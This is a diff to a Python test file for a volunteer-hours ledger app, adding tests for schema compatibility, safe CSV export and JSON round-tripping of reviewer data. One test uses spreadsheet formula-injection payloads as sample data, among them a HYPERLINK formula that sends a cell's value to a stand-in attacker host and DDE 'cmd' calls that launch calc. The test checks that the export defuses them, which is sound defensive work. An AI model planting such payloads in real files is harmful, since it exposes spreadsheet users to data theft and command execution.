@@ -143,13 +143,20 @@ def test_json_import_reports_the_hours_it_brought(
 
 @pytest.mark.parametrize(
     ("schema", "loads"),
-    [("0008", True), ("0007", False), ("0004", False), ("0099", False), ("", False)],
+    [
+        ("0009", True),
+        ("0008", True),
+        ("0007", False),
+        ("0004", False),
+        ("0099", False),
+        ("", False),
+    ],  # fmt: skip
 )
-def test_json_of_an_older_schema_loads_only_when_only_indexes_changed_since(
+def test_json_of_an_older_schema_loads_only_when_the_tables_are_as_they_were(
     filled: Ledger, empty: Ledger, tmp_path: Path, schema: str, loads: bool
 ) -> None:
-    # 0006 added an index and nothing else, so its exports loaded at 0006; 0007 changed the
-    # tables of keys and certificates, so theirs no longer do.
+    # 0009 added rules a shared ledger keeps and no column, so 0008's exports load at 0009;
+    # 0007 changed the tables of keys and certificates, so theirs no longer do.
     out = tmp_path / "all.json"
     filled.exporting.export("json", out)
     document = json.loads(out.read_text(encoding="utf-8"))
@@ -227,3 +234,66 @@ def test_exported_files_get_the_permissions_the_umask_gives(
     finally:
         os.umask(previous)
     assert list(tmp_path.glob(".*.part")) == []
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text_and_read_back_as_typed(
+    ledger: Ledger, empty: Ledger, tmp_path: Path
+) -> None:
+    import csv as csv_module
+
+    from okuvol_desktop.services.roles import RoleTerms
+
+    names = {
+        "description": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        "person": "+cmd|' /C calc'!A0",
+        "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "role": "-2+3",
+        "location": "'quoted already",
+    }
+    ledger.people.add(names["person"])
+    ledger.organisations.add(names["organisation"])
+    ledger.roles.add(
+        names["person"], names["organisation"], WorkKind.VOLUNTEER, RoleTerms(names["role"])
+    )
+    log(
+        ledger, date(2026, 3, 2), hours="1", person=names["person"], org=names["organisation"],
+        description=names["description"], location=names["location"],
+    )  # fmt: skip
+    out = tmp_path / "out.csv"
+    ledger.exporting.export("csv", out)
+    with out.open(encoding="utf-8", newline="") as handle:
+        cells = [cell for row in csv_module.reader(handle) for cell in row]
+    for text in names.values():
+        assert text not in cells and "'" + text in cells  # a spreadsheet shows it as text
+    empty.importing.run(out, ImportOptions("okuvol-csv"))
+    again = tmp_path / "again.csv"
+    empty.exporting.export("csv", again)
+    assert again.read_bytes() == out.read_bytes()
+    (line,) = empty.listing.page(LogQuery(), limit=10)
+    assert (line.entry.description, line.entry.location, line.person_name) == (
+        names["description"], names["location"], names["person"],
+    )  # fmt: skip
+
+
+def test_json_loads_into_either_database_with_who_changed_and_reviewed_each_entry(
+    template_db: Path, ledger: Ledger, clock: FixedClock, tmp_path: Path
+) -> None:
+    # The shared ledger records its login as the reviewer of what a client approves; a whole
+    # ledger loaded by its owner keeps the reviewers and editors the document names.
+    path = tmp_path / "source.sqlite3"
+    path.write_bytes(template_db.read_bytes())
+    source = Ledger.create(
+        ServiceContext(open_database(str(path)).sessions, clock, "Asia/Jakarta", user="sari")
+    )
+    source.demo.fill(people=4, entries=60, seed=5)
+    dual_role_person(source, "Ani Wulandari")
+    entry = log(source, date(2026, 3, 2), hours="3", person="Ani Wulandari")
+    source.approvals.approve([entry.id], note="seen")
+    first, second = tmp_path / "first.json", tmp_path / "second.json"
+    source.exporting.export("json", first, with_keys=True)
+    assert ledger.importing.run(first, ImportOptions("okuvol-json")).added == 61
+    ledger.exporting.export("json", second, with_keys=True)
+    tables = json.loads(second.read_text(encoding="utf-8"))["tables"]
+    assert tables == json.loads(first.read_text(encoding="utf-8"))["tables"]
+    (approved,) = [row for row in tables["entry"] if row["id"] == entry.id]
+    assert (approved["reviewer"], approved["review_note"]) == ("sari", "seen")
